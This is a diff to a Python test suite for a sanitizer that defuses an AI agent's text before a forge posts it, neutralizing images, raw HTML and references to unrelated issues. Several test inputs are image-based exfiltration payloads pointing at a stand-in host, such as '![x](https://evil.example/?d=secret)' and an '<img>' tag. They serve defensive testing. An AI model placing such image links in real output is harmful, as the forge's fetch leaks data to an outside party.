@@ -1,7 +1,8 @@
-"""Tests for fleet.forge.defuse: an agent's text, posted on a forge, pings no one, holds no
-HTML that could fake, hide or break the provenance footer, keeps its own markdown and
-code as written, and stays within the forge's size; one value on a line of ours is one
-plain, bounded line."""
+"""Tests for fleet.forge.defuse: an agent's text, posted on a forge, pings no one, shows no
+image (whose address the forge would fetch), names and closes no issue but the run's own,
+holds no HTML that could fake, hide or break the provenance footer, keeps its own
+markdown and code as written, and stays within the forge's size; one value on a line of
+ours is one plain, bounded line."""
 
 from __future__ import annotations
 
@@ -128,9 +129,10 @@ def test_invisible_characters_are_taken_out() -> None:
     assert out == "ping `@alice` evil"
 
 
-def test_cross_references_stay() -> None:
-    """``#123`` links the issue, which is what an agent means by it."""
-    assert defuse("Fixes #123, see acme/app#7.") == "Fixes #123, see acme/app#7."
+def test_references_to_the_runs_own_issue_and_pull_request_stay() -> None:
+    """``#123`` of the run's own issue links it, and closes it on a merge, as meant."""
+    text = "Fixes #123, see #7 and GH-7."
+    assert defuse(text, own=(123, 7)) == text
 
 
 @pytest.mark.parametrize("unit", ["&", "<", "`", "@a ", "x"])
@@ -184,3 +186,210 @@ def test_escape_cell_is_bounded_whatever_the_value(value: str, limit: int) -> No
     """However much escaping adds, a cell is at most ``limit`` characters, one line."""
     out = escape_cell(value, limit)
     assert len(out) <= limit and "\n" not in out and "<" not in out
+
+
+def images_in(markdown: str) -> list[str]:
+    """The addresses a forge would fetch to show ``markdown``'s images."""
+    found: list[str] = []
+    pending = _PARSER.parse(markdown)
+    while pending:
+        token = pending.pop()
+        if token.type == "image":
+            found.append(str(token.attrGet("src")))
+        pending.extend(token.children or ())
+    return found
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("![x](https://evil.example/?d=secret)", "x (image: `https://evil.example/?d=secret`)"),
+        (
+            'see ![](<https://evil.example/a b.png> "t")',
+            "see image: `https://evil.example/a b.png`",
+        ),
+        (
+            "![x][r] and ![r]\n\n[r]: https://evil.example/a.png",
+            "x (image: `https://evil.example/a.png`) and r (image: `https://evil.example/a.png`)"
+            "\n\n[r]: https://evil.example/a.png",
+        ),
+        (
+            "[![build](https://evil.example/b.svg)](https://ci.example/job)",
+            "[build (image: `https://evil.example/b.svg`)](https://ci.example/job)",
+        ),
+        (
+            "| ![i](https://evil.example/i) |\n|---|",
+            "| i (image: `https://evil.example/i`) |\n|---|",
+        ),
+    ],
+)
+def test_an_image_is_shown_as_its_address_in_code(text: str, shown: str) -> None:
+    """Inline, by reference or inside a link: an image becomes its text and its address
+    as code, which no forge fetches; a link around it stays a link."""
+    out = defuse(text)
+    assert out == shown
+    assert images_in(out) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![a `b` c](https://evil.example/x)",
+        "![a](https://evil.example/(x)) ![[b]](https://evil.example/y)",
+        "\\![escaped](https://e.example/x) and \\\\![not](https://evil.example/z)",
+    ],
+)
+def test_an_image_the_text_hides_is_not_shown_either(text: str) -> None:
+    """An image written so no simple reading finds it is escaped into a link at most."""
+    out = defuse(text)
+    assert images_in(out) == [] and safe(out)
+
+
+def test_raw_html_images_are_text() -> None:
+    """``<img>`` and ``<picture>`` are escaped: shown as written, fetched by no one."""
+    out = defuse('<img src="https://evil.example/?d=x"> <picture><source srcset="https://e/a">')
+    assert out.startswith("&lt;img src=")
+    assert images_in(out) == [] and html_in(out) == []
+
+
+def test_a_diagram_block_is_shown_as_code() -> None:
+    """A ``mermaid`` block (which the forges draw, images and all) is shown as code."""
+    out = defuse("```mermaid\ngraph TD; A-->B\n```\n\n~~~ GeoJSON\n{}\n~~~")
+    assert out == "```text mermaid\ngraph TD; A-->B\n```\n\n~~~text  GeoJSON\n{}\n~~~"
+
+
+_IMAGE_PIECES = st.sampled_from(
+    [*"ab !<>[]()`\"'\\\n:", "![", "](", "[r]: ", "https://e.io/i.png", "<img src=x>", "    "]
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.one_of(st.text(), st.lists(_IMAGE_PIECES, max_size=40).map("".join)))
+def test_no_image_is_ever_shown(text: str) -> None:
+    """For any text, what is posted renders no image."""
+    out = defuse(text)
+    assert images_in(out) == [] and html_in(out) == []
+
+
+@pytest.mark.parametrize(
+    "keyword",
+    [
+        *("close", "closes", "closed", "fix", "fixes", "fixed"),
+        *("resolve", "resolves", "resolved", "reopen", "reopens", "reopened"),
+        *("Fixes:", "CLOSES"),
+    ],
+)
+def test_a_closing_keyword_acts_on_no_other_issue(keyword: str) -> None:
+    """GitHub's closing keywords and Gitea's (with its ``reopen``): before another issue
+    they go in code with it; before the run's own issue they stay."""
+    assert defuse(f"{keyword} #9", own=(1,)) == f"`{keyword} #9`"
+    assert defuse(f"{keyword} #1", own=(1,)) == f"{keyword} #1"
+
+
+def test_a_merge_closes_only_the_runs_own_issue() -> None:
+    """Closing another issue, another repository's or one by its address is defused."""
+    out = defuse(
+        "Closes #1, fixes acme/other#2, resolves https://github.com/acme/app/issues/3", own=(1,)
+    )
+    assert out == (
+        "Closes #1, `fixes acme/other#2`, `resolves https://github.com/acme/app/issues/3`"
+    )
+    assert references_in(out, own=(1,)) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("see #5, GH-6, !8 and \\#9; !7.", "see `#5`, `GH-6`, `!8` and `#9`; !7."),
+        ("acme/app#7 and acme/app!7", "`acme/app#7` and `acme/app!7`"),
+        (
+            "(https://github.com/a/b/pull/9/files). https://git.example/sub/a/b/pulls/4",
+            "(`https://github.com/a/b/pull/9/files`). `https://git.example/sub/a/b/pulls/4`",
+        ),
+        (
+            "[the bug](https://github.com/a/b/issues/3) [x](/a/b/pulls/4 'y')",
+            "the bug (`https://github.com/a/b/issues/3`) x (`/a/b/pulls/4`)",
+        ),
+        (
+            "see [bug][1]\n\n[1]: https://github.com/a/b/issues/3",
+            "see bug (`https://github.com/a/b/issues/3`)\n\n[1]: `https://github.com/a/b/issues/3`",
+        ),
+        ("**Fixes** _#6_", "**Fixes** _`#6`_"),
+    ],
+)
+def test_references_to_other_issues_are_put_in_code(text: str, shown: str) -> None:
+    """Other issues by number, by another repository, by address or through a link: in
+    code, they link nothing and tell no issue it was mentioned. Even ``acme/app#7`` of
+    the run's own number: it may be another repository's."""
+    out = defuse(text, own=(7,))
+    assert out == shown
+    assert references_in(out, own=(7,)) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "`#5`, `fixes acme/x#6` and\n\n```\ncloses https://github.com/a/b/issues/7\n```",
+        "https://e.example/page#5 and www.e.example/x#6, abc#7",
+        "[docs](https://e.example/guide#5)",
+    ],
+)
+def test_what_names_no_issue_is_kept_as_written(text: str) -> None:
+    """References in code are inert, and a web address's ``#fragment`` is no reference."""
+    assert defuse(text) == text
+
+
+_GITEA_NUMERIC = re.compile(
+    r"(?:(?<=[\s(\['\"])|\A)([#!][0-9]+)(?=\s|\Z|[)\]'\"]|[:;,.?!](?:\s|\Z))"
+)
+_GITEA_CROSS = re.compile(
+    r"(?:(?<=[\s(\[])|\A)([\w.-]+/[\w.-]+[#!][0-9]+)(?=\s|\Z|[)\]]|[:;,.?!](?:\s|\Z))"
+)
+_GITHUB_SHORT = re.compile(r"(?<![A-Za-z0-9])GH-([0-9]+)\b", re.IGNORECASE)
+_WEB = re.compile(r"(?:https?://|www\.)[^\s<]*")
+_ISSUE = re.compile(r"/(?:issues|pulls?)/[0-9]")
+
+
+def references_in(markdown: str, own: tuple[int, ...]) -> list[str]:
+    """The issues a forge would link from ``markdown``'s text outside code (Gitea's
+    patterns, from its modules/references, and GitHub's ``GH-N``), but ``own``, and the
+    web addresses and links' addresses of an issue."""
+    found: list[str] = []
+    for token in _PARSER.parse(markdown):
+        runs = [""]
+        for child in token.children or ():
+            if child.type == "text":
+                runs[-1] += child.content
+                continue
+            runs.append("")
+            if child.type == "link_open" and _ISSUE.search(str(child.attrGet("href"))):
+                found.append(str(child.attrGet("href")))
+        text = "\n".join(runs)
+        found += [url for url in _WEB.findall(text) if _ISSUE.search(url)]
+        text = _WEB.sub(" ", text)  # the forges link it: its fragment is no reference
+        found += [ref for ref in _GITEA_NUMERIC.findall(text) if int(ref[1:]) not in own]
+        found += _GITEA_CROSS.findall(text)
+        found += [ref for ref in _GITHUB_SHORT.findall(text) if int(ref) not in own]
+    return found
+
+
+_REFERENCE_PIECES = st.sampled_from(
+    [
+        *"#!1 2\n.,:'\"()[]`\\*_x",
+        *("GH-", "a/b", "fixes ", "Closes: ", "reopened ", "[t](", "](", "[r]: ", "[r]"),
+        *("https://h.io/o/r/issues/", "https://h.io/o/r/pull/", "/pulls/", "www.h.io/"),
+    ]
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    st.lists(_REFERENCE_PIECES, max_size=40).map("".join),
+    st.sampled_from([(), (1,), (1, 2)]),
+)
+def test_no_other_issue_is_ever_named(text: str, own: tuple[int, ...]) -> None:
+    """For any text, what is posted names no issue but ``own``: a forge finds no other
+    reference in it, and no link to an issue."""
+    out = defuse(text, own=own)
+    assert references_in(out, own) == []
+    assert safe(out, own)
